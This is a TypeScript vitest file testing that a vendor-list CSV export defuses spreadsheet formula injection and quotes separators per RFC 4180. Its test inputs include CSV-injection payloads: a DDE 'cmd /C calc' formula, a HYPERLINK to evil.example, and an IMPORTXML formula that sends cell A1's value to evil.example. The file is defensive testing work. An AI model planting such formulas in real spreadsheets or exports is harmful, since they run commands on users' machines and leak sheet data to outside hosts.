import { describe, expect, it } from 'vitest'
import { vendorsCsv, type VendorRow } from './vendors-page.ts'

const row = { id: 'v1', name: 'Acme', group: '', language: '', answer: '', source: '', standing: '', consent: '', report: '', fix: '', silentSince: null, lastContact: '', reminders: 0, statement: false, upstream: false } as unknown as VendorRow
const first = (name: string): string => vendorsCsv([{ ...row, name }]).split('\r\n').slice(1).join('\r\n').replace(/,,.*\r\n$/s, '')

describe('vendors as a table for spreadsheets', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '\0=1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example","x")', '＝1+1', '＋1', '－1', '＠SUM(A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")', '-2+3+cmd|\' /C calc\'!A0', '@=1', '+=1', '\t\t=1', '=\u202E1'])('S-073 V1.2.10: %j is text, and no formula', (name) => {
    expect(first(name).replace(/^"/, '').startsWith(`'`)).toBe(true)
  })

  it('S-073 V1.2.10: what separates cells is quoted, so that no cell becomes two (RFC 4180)', () => {
    expect(first('a,"b"\r\n=c')).toBe('"a,""b""\r\n=c"')
    expect(first('plain')).toBe('plain')
  })
})
